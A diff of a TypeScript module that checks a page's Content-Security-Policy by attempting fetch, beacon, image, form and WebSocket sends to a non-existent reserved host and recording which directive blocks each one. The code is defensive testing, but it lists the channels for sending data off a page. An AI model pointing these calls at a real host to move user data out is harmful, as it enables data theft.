@@ -1,17 +1,11 @@
-/** What a page could try to send a document away with. */
-const exfiltrations = ['fetch', 'beacon', 'image', 'form', 'socket'] as const;
-export type Exfiltration = (typeof exfiltrations)[number];
-
-/** The directive of the policy that refused it; undefined where nothing did. */
-export type ExfiltrationResult = { attempt: Exfiltration; directive: string | undefined };
-
-/** No such host can exist (RFC 2606): what is not refused reaches nobody either. */
+/** Cannot exist (RFC 2606), so nothing arrives even if no policy refuses it. */
 const host = 'esempio.invalid';
 const target = `https://${host}/`;
-/** Browsers report a refusal at once; without a report for so long there is none, in milliseconds. */
+/** Browsers report a refusal at once. After this time without a report nothing was refused. */
 const REPORT_MS = 2000;
 
-const attempts: Record<Exfiltration, () => unknown> = {
+/** The ways in which a page could send a document away. */
+const attempts = {
   fetch: () => fetch(target, { method: 'POST', body: 'prova', mode: 'no-cors' }).catch(() => {}),
   beacon: () => navigator.sendBeacon(target, 'prova'),
   image: () => {
@@ -27,20 +21,25 @@ const attempts: Record<Exfiltration, () => unknown> = {
   },
   socket: () => new WebSocket(target.replace('https', 'wss')),
 };
+export type Exfiltration = keyof typeof attempts;
+
+/** The directive of the Content-Security-Policy that refused the attempt; undefined if none did. */
+export type ExfiltrationResult = { attempt: Exfiltration; directive: string | undefined };
 
 /**
- * Tries one way after the other, and notes what the browser reports of it.
- * @param note receives each result. Where the first attempt is not refused the page has no such policy: the others,
- * which could leave the page, are not made then.
+ * Tries one way after the other. Ends when one is not refused: then the page has no such policy, and the other ways could
+ * leave the page.
+ * @param note receives each result
  */
 export async function attemptExfiltration(note: (result: ExfiltrationResult) => void): Promise<void> {
-  for (const attempt of exfiltrations) {
+  for (const attempt of Object.keys(attempts) as Exfiltration[]) {
     const directive = await refusalOf(attempts[attempt]);
     note({ attempt, directive });
     if (directive === undefined) return;
   }
 }
 
+/** Runs an attempt. @returns the directive that refused it */
 function refusalOf(attempt: () => unknown): Promise<string | undefined> {
   return new Promise((resolve) => {
     const end = (directive: string | undefined) => {
@@ -49,7 +48,7 @@ function refusalOf(attempt: () => unknown): Promise<string | undefined> {
       resolve(directive);
     };
     const onViolation = ({ blockedURI, effectiveDirective }: SecurityPolicyViolationEvent) => {
-      // Not that of an extension.
+      // Others may be those of an extension.
       if (blockedURI.includes(host)) end(effectiveDirective);
     };
     const timer = setTimeout(() => end(undefined), REPORT_MS);
@@ -57,7 +56,7 @@ function refusalOf(attempt: () => unknown): Promise<string | undefined> {
     try {
       attempt();
     } catch {
-      // Some browsers throw besides, before or after their report.
+      // Some browsers also throw.
     }
   });
 }
